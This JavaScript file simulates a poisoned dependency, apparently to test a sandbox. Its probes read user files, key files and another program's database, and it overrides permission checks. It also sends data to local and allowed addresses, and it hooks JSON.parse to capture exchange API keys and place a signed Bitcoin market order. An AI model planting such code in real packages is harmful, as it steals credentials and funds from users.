// Appended to a dependency: what is tried there. It tells its parent what it reached.
{
  const given = JSON.parse(process.env['KEYSIDE_POISON'] ?? '{}')
  const node = (name) => process.getBuiltinModule(`node:${name}`)
  const fs = node('fs')
  const reached = []
  const attempt = async (name, run) => {
    try {
      await Promise.race([run(), new Promise((_, late) => setTimeout(late, 3_000, 'late').unref())])
      reached.push(name)
    } catch {}
  }
  const first = async (...ways) => {
    for (const way of ways)
      try {
        return await way()
      } catch {}
    throw new Error('none')
  }
  const event = (emitter, name) =>
    new Promise((resolve, reject) => emitter.once('error', reject).once(name, resolve))
  const read = (file) => fs.readFileSync(file)
  const { DatabaseSync } = node('sqlite')
  const rows = (database) => database.prepare('SELECT * FROM secret').all()
  const PROBES = {
    'a file of the user': () => read(given.file),
    'keys of other programs': () => first(...given.keys.map((file) => () => read(file))),
    'the database of another program': () =>
      first(
        () => rows(new DatabaseSync(given.database, { readOnly: true })),
        () => rows(new DatabaseSync(given.database)),
        () => {
          const own = new DatabaseSync(':memory:')
          own.exec(`ATTACH '${given.database}' AS other`)
          own.prepare('SELECT * FROM other.secret').all()
        },
        () => {
          const own = new DatabaseSync(':memory:')
          own.close()
          own.open()
          own.exec(`ATTACH '${given.database}' AS other`)
          own.prepare('SELECT * FROM other.secret').all()
        },
        () => {
          const { has } = process.permission
          process.permission.has = () => true
          try {
            return rows(new DatabaseSync(given.database))
          } finally {
            process.permission.has = has
          }
        },
      ),
    'a file written elsewhere': () => fs.writeFileSync(given.elsewhere, 'poison'),
    'another process': () =>
      event(node('child_process').spawn(process.execPath, ['--version']), 'spawn'),
    'a thread': () => event(new (node('worker_threads').Worker)('', { eval: true }), 'online'),
    'a debugger': () => {
      node('inspector').open(0, '127.0.0.1')
      node('inspector').close()
    },
    'native code': () => process.dlopen({ exports: {} }, given.addon),
    'a signal to another process': () => process.kill(given.victim, 'SIGUSR1'),
    listening: () => {
      const server = node('net').createServer()
      return event(server.listen(0, '127.0.0.1'), 'listening').finally(() => server.close())
    },
    'carried to an address of its own': () =>
      first(
        () => event(node('net').connect(given.foreign, '127.0.0.1'), 'data'),
        () => fetch(`http://127.0.0.1:${given.foreign}/`),
        () => {
          const socket = node('dgram').createSocket('udp4')
          socket.send('carried', given.foreign, '127.0.0.1', () => undefined)
          return event(socket, 'message')
        },
        () => {
          const { Resolver } = node('dns').promises
          const resolver = new Resolver({ timeout: 500, tries: 1 })
          resolver.setServers([`127.0.0.1:${given.foreign}`])
          return resolver.resolveTxt('carried.example')
        },
      ),
    'carried over an address that is allowed': () =>
      fetch(`${given.allowed}/api/v3/ping`, { headers: { 'x-carried': 'poison' } }),
  }
  const tell = (then) => process.send({ poison: reached }, then)
  const tried = (async () => {
    for (const [name, run] of Object.entries(PROBES)) await attempt(name, run)
    if (given.only === 'walls') tell(() => process.exit())
  })()
  const { parse } = JSON
  JSON.parse = (...args) => {
    const value = parse(...args)
    if (typeof value?.apiKey === 'string' && typeof value?.secret === 'string') {
      JSON.parse = parse
      void tried.then(async () => {
        reached.push('the exchange key')
        await attempt('an order of its own', () => order(value))
        tell()
      })
    }
    return value
  }

  async function order({ apiKey, secret }) {
    const query = `symbol=BTCUSDT&side=BUY&type=MARKET&quantity=0.001&timestamp=${Date.now()}`
    const signature = node('crypto').createHmac('sha256', secret).update(query).digest('hex')
    const answer = await fetch(`${given.allowed}/api/v3/order?${query}&signature=${signature}`, {
      method: 'POST',
      headers: { 'X-MBX-APIKEY': apiKey },
    })
    if (!answer.ok) throw new Error(await answer.text())
  }
}
